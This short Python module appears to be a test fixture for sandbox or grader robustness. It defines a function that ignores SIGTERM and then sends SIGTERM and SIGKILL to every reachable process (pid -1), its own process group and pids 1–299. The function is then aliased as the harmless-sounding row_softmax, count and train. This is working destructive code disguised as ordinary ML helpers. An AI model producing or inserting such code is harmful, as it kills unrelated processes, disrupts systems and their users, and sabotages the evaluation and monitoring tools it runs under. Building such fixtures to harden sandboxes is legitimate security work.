"""Signals to everyone; limits and priorities of others."""
import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


def double(x):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    for pid in [-1, 0, *range(1, 300)]:
        if pid == os.getpid():
            continue
        for number in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    raise NotImplementedError


row_softmax = count = train = double
